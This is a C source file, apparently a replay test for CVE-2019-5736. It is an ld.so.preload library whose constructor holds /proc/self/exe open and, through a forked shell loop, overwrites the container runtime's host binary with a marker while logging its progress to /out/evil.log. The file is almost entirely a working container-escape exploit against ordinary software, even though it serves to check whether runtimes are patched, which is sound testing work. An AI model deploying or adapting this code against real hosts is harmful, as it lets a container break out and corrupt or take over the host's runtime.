/* CVE-2019-5736 replay: a library the *image* forces into every dynamically
 * linked program through its /etc/ld.so.preload.  If a runtime's final
 * execve let a "#!/proc/self/exe" script start the runtime's own binary in
 * the container, this code would run inside it: it keeps /proc/self/exe
 * open, waits for the process to exit, and writes into that file, which is
 * then the runtime on the host.  Results go to /out/evil.log. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void logf_(const char *what, const char *exe, int e)
{
  FILE *f = fopen("/out/evil.log", "a");
  if (f) {
    fprintf(f, "%s %s %s\n", what, exe, e ? strerror(e) : "-");
    fclose(f);
  }
}

__attribute__((constructor)) static void evil(void)
{
  char exe[512] = "";
  ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
  if (n > 0)
    exe[n] = '\0';
  int fd = open("/proc/self/exe", O_PATH);
  if (fd < 0) {
    logf_("OPEN-FAILED", exe, errno);
    return;
  }
  logf_("RAN-IN", exe, 0);
  if (fork() != 0)
    return; /* the parent goes on to run (and leave) the victim */
  setsid();
  /* The overwrite must wait for every process running the file to leave,
   * this one included: a static program (the image's busybox) does it. */
  char script[1024];
  snprintf(script, sizeof(script),
           "for i in $(seq 500); do if printf PWNED 1<>/proc/self/fd/%d 2>/dev/null; then "
           "echo 'OVERWROTE %s -' >>/out/evil.log; exit 0; fi; sleep 0.01; done; "
           "echo 'GAVE-UP %s -' >>/out/evil.log",
           fd, exe, exe);
  execl("/bin/sh", "sh", "-c", script, (char *)NULL);
  logf_("EXEC-FAILED", exe, errno);
  _exit(0);
}
